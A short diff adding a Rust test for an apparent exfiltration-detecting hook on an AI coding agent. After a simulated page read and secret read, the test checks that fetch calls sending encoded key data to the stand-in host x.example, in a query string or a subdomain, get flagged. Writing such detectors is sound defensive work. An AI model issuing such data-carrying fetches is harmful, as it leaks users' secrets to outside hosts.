@@ -213,3 +213,17 @@ fn a_url_hidden_past_what_is_read_still_carries_data() {
         .expect("a long URL asks");
     assert!(why.contains("bytes in one argument, which can carry data"), "{why}");
 }
+
+#[test]
+fn a_url_without_its_scheme_carries_data_too() {
+    let mut s = Sessions::default();
+    let w = hook("claude-code:bare", &[]);
+    read_page(&mut s, &w);
+    read_secret(&mut s, &w, Wire::Allow);
+    let fetch = |s: &mut Sessions, url: &str| {
+        call(s, &w, "fetch", Class::Read, &[Flag::OpenWorld], json!({ "url": url }), Wire::Allow)
+    };
+    assert!(fetch(&mut s, "x.example/?d=QUtJQQ").is_some());
+    assert!(fetch(&mut s, "QUtJQUlPU0ZPRE5ON0VYQU1QTEUK.x.example").is_some());
+    assert!(fetch(&mut s, "docs.example/guide").is_none());
+}
